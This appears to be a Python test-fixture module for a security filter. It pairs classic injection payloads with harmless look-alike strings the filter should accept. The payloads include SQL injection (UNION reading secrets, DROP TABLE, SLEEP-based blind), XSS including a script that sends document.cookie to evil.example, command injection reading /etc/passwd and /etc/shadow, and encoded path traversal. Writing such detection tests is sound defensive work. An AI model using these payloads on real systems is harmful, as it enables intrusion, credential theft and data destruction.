"""What inspect must stop, and the nearest harmless texts it must let pass."""

from typing import Final

from doorward.attack.case import Attack

_INJECTION: Final = "API8:2023 Security misconfiguration"


def _text_attack(name: str, threat: str, title: str, source: str, send: str, twin: str) -> Attack:
    return Attack(
        id=f"inspect.{name}",
        name=title,
        earns=f"inspect.{threat}",
        threat=_INJECTION,
        source=source,
        send=lambda samples: samples.text(send),
        twin=lambda samples: samples.text(twin),
    )


ATTACKS: Final[tuple[Attack, ...]] = (
    _text_attack(
        "sql_tautology",
        "sql",
        "make a condition always true",
        "CWE-89; OWASP ASVS 5.0 V1.2.4",
        "Brien' OR '1'='1",
        "O'Brien or O'Hara",
    ),
    _text_attack(
        "sql_union",
        "sql",
        "read another table by joining a second query",
        "CWE-89; OWASP WSTG-INPV-05",
        "x' UNION SELECT name, secret FROM users --",
        "select the best of the European Union",
    ),
    _text_attack(
        "sql_stacked",
        "sql",
        "end the statement and add another",
        "CWE-89; OWASP WSTG-INPV-05",
        "x'; DROP TABLE accounts --",
        "it's late; drop by the table tomorrow",
    ),
    _text_attack(
        "sql_blind",
        "sql",
        "learn one bit at a time from the answer's delay",
        "CWE-89; OWASP WSTG-INPV-05",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5)) x)",
        "1 and only: sleep 5 hours (select a bed)",
    ),
    _text_attack(
        "xss_script",
        "xss",
        "have a page run a script",
        "CWE-79; OWASP WSTG-INPV-02",
        "<script>fetch('//evil.example/'+document.cookie)</script>",
        "I <b>love</b> this script, 3 < 4",
    ),
    _text_attack(
        "xss_handler",
        "xss",
        "hide a script in an event handler, behind HTML entities",
        "CWE-79; CWE-83",
        "<img src=x onerror=&#97;lert(1)>",
        "<em>on time</em>, error = 0",
    ),
    _text_attack(
        "xss_attribute",
        "xss",
        "leave an attribute and add a handler",
        "CWE-79; OWASP WSTG-INPV-02",
        '" onmouseover="alert(1)',
        'the "onmouseover" event',
    ),
    _text_attack(
        "command_separator",
        "command",
        "run a second command",
        "CWE-78; OWASP WSTG-INPV-12",
        "127.0.0.1; cat /etc/passwd",
        "cats & dogs; birds",
    ),
    _text_attack(
        "command_substitution",
        "command",
        "run a command inside an argument, blanks disguised",
        "CWE-78; OWASP WSTG-INPV-12",
        "report-$(cat${IFS}/etc/shadow)",
        "report costs $(100)",
    ),
    _text_attack(
        "traversal_climb",
        "traversal",
        "climb out of a directory",
        "CWE-22; OWASP WSTG-ATHZ-01",
        "../../../../etc/passwd",
        "see the README for more...",
    ),
    _text_attack(
        "traversal_encoded",
        "traversal",
        "climb out of a directory, encoded twice",
        "CWE-22; CWE-174",
        "..%252f..%252f..%252fetc%252fpasswd",
        "50%25 of etc. is fine",
    ),
)
